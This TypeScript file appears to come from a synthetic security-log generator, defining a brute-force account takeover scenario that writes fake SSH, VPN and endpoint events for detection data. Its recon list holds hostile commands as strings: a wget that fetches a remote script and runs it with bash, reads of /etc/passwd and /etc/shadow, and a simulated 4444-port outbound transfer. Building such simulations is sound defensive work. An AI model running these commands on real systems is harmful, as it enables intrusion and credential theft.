// Password guessing from one address until it works, then the intruder uses the account: on
// the ssh bastion for people with server access, on the VPN for everyone else.

import { hourMs, minuteMs } from '../calendar'
import { serverNamed } from '../catalog-hosts'
import { guessingConnection, sshLogin, sshLogout, sudo, sudoRefused } from '../formats/auth-log'
import { ecsConnection, ecsLogon, ecsProcess } from '../formats/ecs'
import { scannerAddress } from '../background'
import type { WorkDay } from '../work-day'
import { type Scenario, consecutiveDays } from './scenario'

const recon = ['/usr/bin/id', '/usr/bin/uname -a', '/usr/bin/cat /etc/passwd', '/usr/bin/wget -q http://{ip}/x.sh -O /tmp/.x', '/bin/bash /tmp/.x']

function attackHour(day: WorkDay): number {
  const random = day.random
  return random.chance(0.7) ? random.pick([0, 1, 2, 3, 4, 5, 19, 20]) + random.next() : 8 + random.next() * 10
}

function viaSsh(day: WorkDay, from: string, guessing: boolean): void {
  const { random, person, out } = day
  const stream = out.streams.authLog
  let ts = day.dayStart + Math.floor(attackHour(day) * hourMs)
  if (guessing) {
    for (let connection = random.int(6, 25); connection > 0; connection--) ts = guessingConnection(stream, random, ts, 'jump01', person.id, from, 6) + random.int(500, 20_000)
  }
  const session = sshLogin(stream, random, { ts, server: 'jump01', user: person.id, uid: person.uid, from, method: 'password' })
  let at = ts + 20_000
  for (const command of recon) {
    ecsProcess(out.streams.ecsProcess, at, { user: person.id, host: 'jump01', executable: command.split(' ')[0] as string, args: command.split(' ').slice(1).join(' ').replace('{ip}', from), pid: random.int(2000, 60000), parent: 'bash' })
    at += random.int(5_000, 60_000)
  }
  if (person.habits.sudo > 0) sudo(stream, at, session, '/usr/bin/cat /etc/shadow')
  else sudoRefused(stream, at, session, '/usr/bin/cat /etc/shadow')
  ecsConnection(out.streams.ecsNetwork, at + 1000, { user: person.id, host: 'jump01', sourceIp: serverNamed('jump01').ip, destinationIp: from, port: 4444, sent: random.int(1e6, 9e7), received: random.int(1e4, 1e6) })
  // From the bastion into hosts the person never uses.
  for (const server of random.sample(['db01', 'db02', 'backup01', 'app03', 'web02'], random.int(1, 3))) {
    at += random.int(60_000, 600_000)
    const hop = sshLogin(stream, random, { ts: at, server, user: person.id, uid: person.uid, from: serverNamed('jump01').ip, method: 'password' })
    sshLogout(stream, at + random.int(2, 20) * minuteMs, hop)
  }
  sshLogout(stream, at + random.int(20, 60) * minuteMs, session)
}

function viaVpn(day: WorkDay, from: string, guessing: boolean): void {
  const { random, person, out } = day
  const stream = out.streams.ecsAuthentication
  let ts = day.dayStart + Math.floor(attackHour(day) * hourMs)
  if (guessing) {
    for (let attempt = random.int(40, 200); attempt > 0; attempt--) {
      ecsLogon(stream, ts, { user: person.id, host: 'vpn01', sourceIp: from, success: false, dataset: 'vpn.authentication', logonType: 'vpn' })
      ts += random.int(2_000, 15_000)
    }
  }
  ecsLogon(stream, ts, { user: person.id, host: 'vpn01', sourceIp: from, success: true, dataset: 'vpn.authentication', logonType: 'vpn' })
  const inside = `10.99.250.${random.int(2, 250)}`
  for (const server of random.sample(['fs01', 'mail01', 'dc01', 'erp01', 'crm01', 'hr01'], random.int(3, 6))) {
    ts += random.int(30_000, 400_000)
    ecsLogon(stream, ts, { user: person.id, host: server, sourceIp: inside, success: true, logonType: 'network' })
    ecsConnection(out.streams.ecsNetwork, ts - 200, { user: person.id, host: `DESKTOP-${random.code(7)}`, sourceIp: inside, destinationIp: serverNamed(server).ip, port: server === 'fs01' ? 445 : 443, sent: random.int(1e4, 1e6), received: random.int(1e6, 4e8) })
  }
}

export const bruteForceTakeover: Scenario = {
  name: 'brute_force_takeover',
  forcesPresence: false,
  // Mostly people with ssh access (the exposed bastion is where guessing happens), not only them.
  fit: (person) => (person.habits.linuxServers.length > 0 ? 1.3 : 1),
  plan(random, person, range) {
    const days = consecutiveDays(random, range, random.chance(0.5) ? 2 : 1, false)
    return { days, variant: person.habits.linuxServers.length > 0 ? 'ssh' : 'vpn', detail: scannerAddress(random) }
  },
  write(day, _worked, plan, step) {
    // The first day guesses; a return visit logs straight in with the password it found.
    if (plan.variant === 'ssh') viaSsh(day, plan.detail, step === 0)
    else viaVpn(day, plan.detail, step === 0)
  },
}
